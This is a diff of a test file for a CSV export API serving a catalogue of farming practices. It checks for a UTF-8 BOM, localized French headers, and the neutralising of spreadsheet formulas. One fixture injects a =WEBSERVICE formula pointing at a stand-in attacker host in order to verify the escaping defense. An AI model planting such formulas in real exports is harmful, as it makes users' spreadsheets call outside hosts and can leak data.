@@ -1,5 +1,6 @@
 """The public read API: same filters as the page, published sheets only, licence in every record."""
 
+import codecs
 import csv
 import io
 import json
@@ -48,10 +49,21 @@ def test_geojson_has_one_feature_per_place(client, catalogue):
 
 def test_csv_export(client, catalogue):
     response = client.get("/api/v1/practices.csv", {"category": "cover-crops"})
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
-    assert [r["name"] for r in rows] == ["Cover crops"]
-    assert rows[0]["licence"] == "CC BY-SA 4.0"
-    assert rows[0]["climate_zones"] == "warm-temperate-moist"
+    assert response.content.startswith(codecs.BOM_UTF8)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["Name"] for r in rows] == ["Cover crops"]
+    assert rows[0]["Licence"] == "CC BY-SA 4.0"
+    assert rows[0]["Climate zones"] == "warm-temperate-moist"
+
+
+def test_csv_export_headers_follow_lang_and_formulas_stay_text(client, catalogue):
+    from practices.models import Practice
+
+    Practice.objects.filter(name_en="Cover crops").update(name_fr='=WEBSERVICE("https://evil.example")')
+    response = client.get("/api/v1/practices.csv", {"category": "cover-crops", "lang": "fr"})
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert header[3:6] == ["Nom", "Définition", "Catégorie"]
+    assert row[3] == '\'=WEBSERVICE("https://evil.example")'
 
 
 def test_openapi_schema_documents_the_three_formats(client, db):
